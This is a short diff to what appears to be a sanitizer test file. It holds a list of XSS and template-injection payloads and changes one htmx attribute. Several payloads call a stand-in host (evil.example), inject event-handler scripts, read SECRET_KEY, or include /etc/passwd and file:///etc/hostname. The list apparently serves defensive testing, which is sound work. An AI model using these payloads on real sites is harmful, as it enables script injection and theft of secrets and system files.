@@ -39,7 +39,7 @@ _ATTACKS = (
     "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
     "<figure data-live='measure:1' onclick=pwned()>x</figure>",
     "<figure><img src='file:///etc/hostname' alt='x'></figure>",
-    f"<button hx-get=https://evil.example hx-trigger=load hx-on::load={_SCRIPT}>x</button>",
+    f"<button data-hx-get=https://evil.example hx-trigger=load hx-on::load={_SCRIPT}>x</button>",
     f"<p id=innehall data-controller=x onmouseover={_SCRIPT}>x</p>",
     "{{ settings.SECRET_KEY }}",
     "{% include '/etc/passwd' %}{% load static %}",
